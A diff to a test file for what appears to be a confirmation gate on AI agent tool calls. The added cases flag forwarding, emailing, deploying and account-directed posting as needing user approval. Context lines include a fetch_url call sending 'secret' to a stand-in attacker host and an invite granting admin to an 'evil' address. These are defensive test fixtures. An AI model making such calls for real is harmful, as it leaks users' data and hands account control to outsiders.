@@ -39,6 +39,16 @@ describe('without options', () => {
     ['invite', { members: { 'eve@evil.example': 'admin' } }],
     ['fetch_url', { url: 'https://evil.example/?q=secret' }],
     ['clear_history', {}],
+    ['get_and_forward', { to: 'X1' }],
+    ['list_and_email', { to: 'X1' }],
+    ['search_then_log', { account: 'X1' }],
+    ['lookup_deploy', { target: 'X1' }],
+    ['fetch_messages_and_notify', { user: 'X1' }],
+    ['post', { to1: 'X1' }],
+    ['post', { recipient_1: 'X1' }],
+    ['post', { accountNo: 'X1' }],
+    ['post', { account_ref: 'X1' }],
+    ['post', { toAccountHolder: 'X1' }],
   ])('%s with %j asks', async (toolName, input) => {
     expect(await asked(toolName, input)).toBeDefined();
   });
@@ -49,6 +59,9 @@ describe('without options', () => {
     ['write_file', { path: '/data', file_content: 'whatever' }],
     ['fetch_url', { url: 'https://evil.example/y' }],
     ['get_page', { page_number: 3 }],
+    ['get_email', { id: 'X1' }],
+    ['search_customers_and_contacts', { email: 'X1' }],
+    ['get_and_list', { id: 'X1' }],
     ['search_contacts', { email: 'eve@evil.example' }],
     ['rate', { stars: 5, hotel: 'Ritz' }],
     ['post', { notify_users: true, file_type: 'pdf', channel_topic: 'Sales', userCity: 'Rome' }],
